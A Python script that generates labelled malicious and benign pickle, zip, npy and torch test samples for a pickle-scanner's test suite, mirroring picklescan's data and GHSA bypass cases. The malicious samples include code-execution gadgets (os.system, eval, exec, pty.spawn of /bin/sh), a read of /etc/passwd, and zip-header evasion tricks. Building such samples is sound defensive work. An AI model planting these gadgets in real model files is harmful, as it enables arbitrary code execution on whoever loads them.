"""Write equivalents of picklescan's labelled test samples (its tests/data and tests/data2,
GHSA bypass samples included) for tests/hostile/picklescan.rs.

Usage: python3 picklescan_samples.py OUTDIR

Writes OUTDIR/malicious/<name> and OUTDIR/benign/<name>. Each malicious sample is what
CPython's pickle writes for the same `__reduce__` as picklescan's generator
(tests/init_data_files.py there), so the imported globals are the real ones. Modules that
are not installed here (torch, numpy, requests, aiohttp, idlelib without tkinter, ...) are
stood in for by empty module objects registered in sys.modules under the real names, which
is all `pickle` looks at: it writes the module and qualified name of the callable. Nothing
is unpickled and no payload runs.
"""

import collections
import functools
import io
import operator
import os
import pickle
import struct
import sys
import types
import warnings
import zipfile

warnings.simplefilter("ignore", DeprecationWarning)

OUT = sys.argv[1]
PAYLOAD = "__import__('os').system('whoami')"


def stand_in(module, qualname):
    """The object `module.qualname`: the real one when importable, else a stand-in that
    pickles under that name."""
    try:
        obj = __import__(module, fromlist=["_"])
        for part in qualname.split("."):
            obj = getattr(obj, part)
        return obj
    except Exception:
        pass
    parts = module.split(".")
    for i in range(1, len(parts) + 1):
        name = ".".join(parts[:i])
        if name not in sys.modules or not hasattr(sys.modules[name], "__stand_in__"):
            mod = types.ModuleType(name)
            mod.__stand_in__ = True
            sys.modules[name] = mod
            if i > 1:
                setattr(sys.modules[".".join(parts[: i - 1])], parts[i - 1], mod)
    owner = sys.modules[module]
    names = qualname.split(".")
    for part in names[:-1]:
        if not hasattr(owner, part):
            cls = type(part, (), {})
            cls.__module__ = module
            cls.__qualname__ = part
            setattr(owner, part, cls)
        owner = getattr(owner, part)

    def fn(*args, **kwargs):
        raise RuntimeError("stand-in")

    fn.__module__ = module
    fn.__qualname__ = qualname
    fn.__name__ = names[-1]
    setattr(owner, names[-1], fn)
    return fn


class Reduce:
    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def write(kind, name, data):
    path = os.path.join(OUT, kind, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


def reduce_pickle(module, qualname, args, protocol=4):
    return pickle.dumps(Reduce(stand_in(module, qualname), args), protocol=protocol)


def zip_bytes(member, data, flag_bits=0, local_name=None):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        info = zipfile.ZipInfo(member, date_time=(1980, 1, 1, 0, 0, 0))
        zf.writestr(info, data)
    raw = bytearray(buf.getvalue())
    if flag_bits:
        # General purpose flags in the local header (offset 6) and central header (8).
        local_flags = struct.unpack_from("<H", raw, 6)[0] | flag_bits
        struct.pack_into("<H", raw, 6, local_flags)
        cd = raw.rfind(b"PK\x01\x02")
        struct.pack_into("<H", raw, cd + 8, struct.unpack_from("<H", raw, cd + 8)[0] | flag_bits)
    if local_name is not None:
        raw = raw.replace(member.encode(), local_name.encode(), 1)
    return bytes(raw)


def npy(payload_pickle, descr="|O"):
    header = "{'descr': '%s', 'fortran_order': False, 'shape': (2,), }" % descr
    header += " " * ((-(10 + len(header) + 1)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload_pickle


# --- malicious: tests/data ----------------------------------------------------------------

m = {}
for v in (0, 3, 4):
    m[f"malicious1_v{v}.pkl"] = reduce_pickle("builtins", "eval", ("print('456')",), v)
    m[f"malicious2_v{v}.pkl"] = reduce_pickle("os", "system", ("ls -la",), v)
m["malicious0.pkl"] = (
    b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'fl=open(\"/etc/passwd\");"
    b"picklesmashed=fl.read();'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n"
    b"0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n"
    b"(g100\nS'picklesmashed'\nltRp104\n0g104\n."
)
m["malicious10.pkl"] = b"(S'raise RuntimeError(\"Injection running\")'\ni__builtin__\nexec\n."
stack_global_via_memo = [
    pickle.UNICODE + b"os\n", pickle.PUT + b"2\n", pickle.POP,
    pickle.UNICODE + b"system\n", pickle.PUT + b"3\n", pickle.POP,
    pickle.UNICODE + b"torch\n", pickle.PUT + b"0\n", pickle.POP,
    pickle.UNICODE + b"LongStorage\n", pickle.PUT + b"1\n", pickle.POP,
    pickle.GET + b"2\n", pickle.GET + b"3\n", pickle.STACK_GLOBAL,
    pickle.MARK, pickle.UNICODE + b"cat flag.txt\n", pickle.TUPLE, pickle.REDUCE, pickle.STOP,
]
m["malicious11.pkl"] = b"".join(stack_global_via_memo)
m["malicious-invalid-bytes.pkl"] = b"".join(stack_global_via_memo) + b"\n\n\t\t"
m["broken_model.pkl"] = (
    b"cbuiltins\nexec\n(X>\nf = open('my_file.txt', 'a'); f.write('Malicious'); f.close()tRX."
)
m["malicious3.pkl"] = reduce_pickle("http.client", "HTTPSConnection", ("github.com",), 0)
m["malicious4.pickle"] = reduce_pickle("requests.api", "get", ("https://github.com",))
m["malicious5.pickle"] = reduce_pickle("aiohttp.client", "ClientSession", ())
m["malicious6.pkl"] = pickle.dumps(["a", "b", "c"]) + reduce_pickle(
    "requests.api", "get", ("https://github.com",)
)
m["malicious7.pkl"] = reduce_pickle("socket", "create_connection", (("github.com", 80),))
m["malicious8.pkl"] = reduce_pickle("subprocess", "run", (["ls", "-l"],))
m["malicious9.pkl"] = reduce_pickle("sys", "exit", (0,))
m["malicious13a.pkl"] = reduce_pickle("pickle", "loads", (b"I12345\n.",), 0)
m["malicious13b.pkl"] = reduce_pickle("_pickle", "loads", (b"I12345\n.",), 4)
m["malicious14.pkl"] = reduce_pickle("runpy", "_run_code", ("print('456')",))
m["malicious15a.pkl"] = reduce_pickle("bdb", "Bdb.run", (None, 'import os\nos.system("whoami")'), 2)
m["malicious15b.pkl"] = reduce_pickle("bdb", "Bdb.run", (None, 'import os\nos.system("whoami")'), 4)
m["malicious16.pkl"] = reduce_pickle("pip", "main", (["install", "some_malicious_package"],), 0)
m["malicious17.pkl"] = reduce_pickle(
    "torch._inductor.codecache", "compile_file", ("", "", ["sh", "-c", '$(echo "pwned")'])
)
m["malicious18.pkl"] = reduce_pickle("pydoc", "pipepager", ("", 'echo "pwned"'))
torch_load = stand_in("torch.serialization", "load")


class PartialLoad:
    def __reduce__(self):
        return functools.partial(torch_load, "other.bin", weights_only=False), ()


m["malicious19.pkl"] = pickle.dumps(PartialLoad(), protocol=4)
m["malicious20.pkl"] = reduce_pickle("venv", "create", ("venv", False, False, True, False, "$(echo pwned)"))
m["malicious1.zip"] = zip_bytes("data.pkl", m["malicious1_v4.pkl"])
m["malicious1_central_directory.zip"] = zip_bytes("data.pkl", m["malicious1_v4.pkl"], local_name="datap.kl")
crc = zip_bytes("data.pkl", m["malicious1_v4.pkl"])
m["malicious1_crc.zip"] = crc.replace(b"print('456')", b"print('123')", 1)
m["malicious1_wrong_ext.zip"] = zip_bytes("data.txt", m["malicious1_v4.pkl"])
for bits in (0x1, 0x20, 0x40):
    m[f"malicious1_0x{bits:x}.zip"] = zip_bytes("data.pkl", m["malicious1_v4.pkl"], flag_bits=bits)
# A 7z archive: signature header, then the packed pickle (tritonguard does not unpack 7z).
m["malicious1.7z"] = b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24 + m["malicious1_v4.pkl"]

# --- malicious: tests/data2 ---------------------------------------------------------------

m["malicious21.pkl"] = reduce_pickle("timeit", "timeit", ("", PAYLOAD))
m["malicious22.pkl"] = reduce_pickle("numpy.testing._private.utils", "runstring", (PAYLOAD, {}))
m["malicious23.pkl"] = b"".join(
    [pickle.STRING + b"'os'\n", pickle.STRING + b"'system'\n", pickle.STACK_GLOBAL,
     pickle.STRING + b"'ls'\n", pickle.TUPLE1, pickle.REDUCE, pickle.STOP]
)
m["keyerror-exploit.pkl"] = b"".join(
    [pickle.PROTO, b"\x04", pickle.GLOBAL, b"os\nsystem\n", pickle.UNICODE, b"echo pwned\n",
     pickle.TUPLE1, pickle.REDUCE, pickle.POP, pickle.SHORT_BINUNICODE, b"\x02os", pickle.MEMOIZE,
     pickle.BINGET, b"\x03", pickle.BINGET, b"\x00", pickle.STACK_GLOBAL, pickle.BININT1, b"\x42",
     pickle.STOP]
)
m["type-confusion-exploit.pkl"] = b"".join(
    [pickle.PROTO, b"\x04", pickle.GLOBAL, b"os\nsystem\n", pickle.UNICODE, b"echo pwned\n",
     pickle.TUPLE1, pickle.REDUCE, pickle.POP, pickle.BININT, b"\x2a\x00\x00\x00", pickle.MEMOIZE,
     pickle.SHORT_BINUNICODE, b"\x02os", pickle.MEMOIZE, pickle.BINGET, b"\x00", pickle.BINGET,
     b"\x01", pickle.STACK_GLOBAL, pickle.BININT1, b"\x42", pickle.STOP]
)
ghsa = {
    "GHSA-4r9r-ch6f-vxmx": ("torch.utils.bottleneck.__main__", "run_cprofile", (PAYLOAD, {})),
    "GHSA-86cj-95qr-2p4f": ("torch._dynamo.guards", "GuardBuilder.get", ({}, PAYLOAD)),
    "GHSA-f4x7-rfwp-v3xw": (
        "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", ({}, PAYLOAD, []),
    ),
    "GHSA-f745-w6jp-hpxx": ("torch.utils.collect_env", "run", (PAYLOAD,)),
    "GHSA-jhph-76pp-mggw": ("torch.utils.collect_env", "run_and_read_all", (None, PAYLOAD)),
    "GHSA-h3qp-7fh3-f8h4": ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", b"")),
    "GHSA-vr7h-p6mm-wpmh": ("torch.jit.unsupported_tensor_ops", "execWrapper", (PAYLOAD, {}, {})),
    "GHSA-vv6j-3g6g-2pvj": ("torch.utils._config_module", "ConfigModule.load_config", ({}, b"")),
    "GHSA-5qwp-399c-mjwf": ("trace", "Trace.run", ({}, PAYLOAD)),
    "GHSA-g344-hcph-8vgg": ("trace", "Trace.runctx", ({}, PAYLOAD, {}, {})),
    "GHSA-x696-vm39-cp64": ("profile", "Profile.run", ({}, PAYLOAD)),
    "GHSA-6vqj-c2q5-j97w": ("profile", "Profile.runctx", ({}, PAYLOAD, {}, {})),
    "GHSA-f54q-57x4-jg88": ("lib2to3.pgen2.grammar", "Grammar.loads", ({}, b"")),
    "GHSA-3vg9-h568-4w9m": ("idlelib.debugobj", "ObjectTreeItem.SetText", ({}, PAYLOAD)),
    "GHSA-6w4w-5w54-rjvr": ("idlelib.autocomplete", "AutoComplete.get_entity", ({}, PAYLOAD)),
    "GHSA-7cq8-mj8x-j263": ("idlelib.autocomplete", "AutoComplete.fetch_completions", ({}, PAYLOAD, 1)),
    "GHSA-cj3c-v495-4xqh": ("code", "InteractiveInterpreter.runcode", ({}, PAYLOAD)),
    "GHSA-8r4j-24qv-fmq9": ("idlelib.calltip", "Calltip.fetch_tip", ({}, PAYLOAD)),
    "GHSA-9xph-j2h6-g47v": ("idlelib.calltip", "get_entity", (PAYLOAD,)),
    "GHSA-4whj-rm5r-c2v8": ("torch.utils.bottleneck.__main__", "run_autograd_prof", (PAYLOAD, {})),
    "GHSA-xp4f-hrf8-rxw7": ("ensurepip", "_run_pip", (PAYLOAD,)),
    "GHSA-p9w7-82w4-7q8m": ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", (None, {}, '""+' + PAYLOAD)),
    "GHSA-m869-42cg-3xwr": ("idlelib.run", "Executive.runcode", ({}, PAYLOAD)),
    "GHSA-j343-8v2j-ff7w": ("idlelib.pyshell", "ModifiedInterpreter.runcommand", ({}, PAYLOAD)),
    "GHSA-3gf5-cxq9-w223": ("idlelib.pyshell", "ModifiedInterpreter.runcode", ({}, PAYLOAD)),
    "GHSA-fqq6-7vqf-w3fg": ("doctest", "debug_script", (PAYLOAD, True)),
    "GHSA-9w88-8rmg-7g2p": ("cProfile", "runctx", (PAYLOAD, None, None)),
    "GHSA-49gj-c84q-6qm9": ("cProfile", "run", (PAYLOAD,)),
    "GHSA-q77w-mwjj-7mqx": (
        "asyncio.unix_events", "_UnixSubprocessTransport._start", ({}, "whoami", True, None, None, None, 0),
    ),
    "GHSA-m273-6v24-x4m4": ("distutils.file_util", "write_file", ("pwned.env", ["malicious"])),
    "GHSA-4675-36f9-wf6r": ("ctypes", "CDLL", (None,)),
    "GHSA-vqmv-47xg-9wpr": ("pty", "spawn", (["/bin/sh", "-c", "id; exit"],)),
    "GHSA-r8g5-cgf2-4m4m": ("numpy.f2py.crackfortran", "getlincoef", (PAYLOAD, [])),
    "io_FileIO": ("io", "FileIO", ("/etc/hosts", "r")),
    "urllib_request_urlopen": ("urllib.request", "urlopen", ("https://example.invalid",)),
}
for name, (module, qualname, args) in ghsa.items():
    m[f"{name}.pkl"] = reduce_pickle(module, qualname, args)
m["GHSA-jgw4-cr84-mqxg.bin"] = m["GHSA-q77w-mwjj-7mqx.pkl"]
locate = stand_in("pydoc", "locate")


class ModuleLocator:
    def __reduce__(self):
        return locate, ("os",)


m["GHSA-84r2-jw7c-4r5q.pkl"] = pickle.dumps(
    Reduce(operator.methodcaller("system", "echo pwned"), (ModuleLocator(),)), protocol=4
)

# numpy: an object array whose element reduces to ssl.get_server_certificate.
m["dns_exfiltration.npy"] = npy(reduce_pickle("ssl", "get_server_certificate", (("x.invalid", 443),), 3))
m["object_arrays_evil.npz"] = zip_bytes("a.npy", npy(reduce_pickle("os", "system", ("id",), 3)))

# --- benign ---------------------------------------------------------------------------------

b = {}
for v in (0, 3, 4):
    b[f"benign0_v{v}.pkl"] = pickle.dumps(["a", "b", "c"], protocol=v)

# An ndarray as numpy pickles it (object arrays hold one): its reconstructors are
# allow-listed.
reconstruct = stand_in("numpy.core.multiarray", "_reconstruct")
ndarray = stand_in("numpy", "ndarray")
dtype = stand_in("numpy", "dtype")


class Array:
    def __reduce__(self):
        return reconstruct, (ndarray, (0,), b"b"), (1, (2, 2), Dtype(), False, [(1, 2), (3, 4)])


class Dtype:
    def __reduce__(self):
        return dtype, ("O8", False, True), (3, "|", None, None, None, -1, -1, 63)


b["object_array.npy"] = npy(pickle.dumps([(1, 2), (3, 4)], protocol=3))
b["object_ndarray.pkl"] = pickle.dumps(Array(), protocol=2)
b["int_array.npy"] = npy(b"\x01\x00\x00\x00\x00\x00\x00\x00" * 4, descr="<i8")
b["object_arrays.npz"] = zip_bytes("a.npy", b["object_array.npy"])
int_npz = io.BytesIO()
with zipfile.ZipFile(int_npz, "w", zipfile.ZIP_DEFLATED) as zf:
    zf.writestr("a.npy", b["int_array.npy"])
    zf.writestr("b.npy", b["int_array.npy"])
b["int_arrays_compressed.npz"] = int_npz.getvalue()

# A torch.save state dict: OrderedDict of tensors rebuilt by torch._utils._rebuild_tensor_v2
# from persistent storage ids, in a zip laid out as torch writes it.
rebuild = stand_in("torch._utils", "_rebuild_tensor_v2")
storage = stand_in("torch", "FloatStorage")


class Tensor:
    def __reduce__(self):
        return rebuild, (Storage(), 0, (2, 2), (2, 1), False, collections.OrderedDict())


class Storage:
    pass


class TorchPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, Storage):
            return ("storage", storage, "0", "cpu", 4)
        return None


state = io.BytesIO()
TorchPickler(state, protocol=2).dump(
    collections.OrderedDict([("fc.weight", Tensor()), ("fc.bias", Tensor())])
)
b["state_dict.pkl"] = state.getvalue()
torch_zip = io.BytesIO()
with zipfile.ZipFile(torch_zip, "w") as zf:
    for member, data in [
        ("archive/data.pkl", state.getvalue()),
        ("archive/byteorder", b"little"),
        ("archive/data/0", b"\x00" * 16),
        ("archive/version", b"3\n"),
    ]:
        zf.writestr(zipfile.ZipInfo(member, date_time=(1980, 1, 1, 0, 0, 0)), data)
b["pytorch_model.bin"] = torch_zip.getvalue()
b["new_pytorch_model.pt"] = torch_zip.getvalue()

for name, data in m.items():
    write("malicious", name, data)
for name, data in b.items():
    write("benign", name, data)
